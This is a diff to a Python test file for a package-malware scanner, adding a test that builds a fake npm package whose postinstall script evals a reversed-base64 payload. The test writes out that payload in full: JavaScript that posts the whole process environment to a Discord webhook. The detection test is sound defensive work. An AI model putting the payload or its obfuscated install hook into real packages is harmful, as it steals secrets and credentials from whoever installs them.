@@ -5,6 +5,7 @@ from __future__ import annotations
 
 from chainwatch.packages import signals as sg
 from chainwatch.packages.jsscan import JsScanner
+from tests.packages.helpers import facts_of, npm_tgz, verdict
 
 # unrelated code that looks like a bundle: many functions, calls and strings, no sources or sinks
 FILLER = "\n".join(
@@ -93,3 +94,19 @@ def test_a_download_written_and_run_from_callbacks_is_one_download_exec() -> Non
         (sg.DOWNLOAD_EXEC, sg.IMPORT), (sg.WRITE_EXEC, sg.IMPORT)}
     later = _scan(code.replace("dl();\n", "module.exports = dl;\n"))
     assert not [s for s in later if s.kind == sg.DOWNLOAD_EXEC]  # only when called: not at import
+
+
+def test_payload_stored_backwards_is_decoded_in_javascript() -> None:
+    """``Buffer.from(s.split('').reverse().join(''), 'base64')``: the literal is the payload's base64 reversed;
+    decoded, an environment dump to a Discord webhook runs at install. Before: clean of any finding on it."""
+    import base64
+
+    payload = (b"const https=require('https');https.request({hostname:'discord.com',path:'/api/webhooks/1/abc',"
+               b"method:'POST'}).end(JSON.stringify(process.env));")
+    blob = base64.b64encode(payload).decode()[::-1]
+    js = f"const s='{blob}';\neval(Buffer.from(s.split('').reverse().join(''), 'base64').toString());\n"
+    data = npm_tgz("qwerty-build-kit", "1.0.1", {"index.js": "module.exports={}\n", "install.js": js},
+                   scripts={"postinstall": "node install.js"})
+    result, findings = verdict(data)
+    assert result == "malicious" and "package.hidden-code:critical" in findings
+    assert any(s.detail.get("method") == "reversed+base64" for s in facts_of(data).signals)
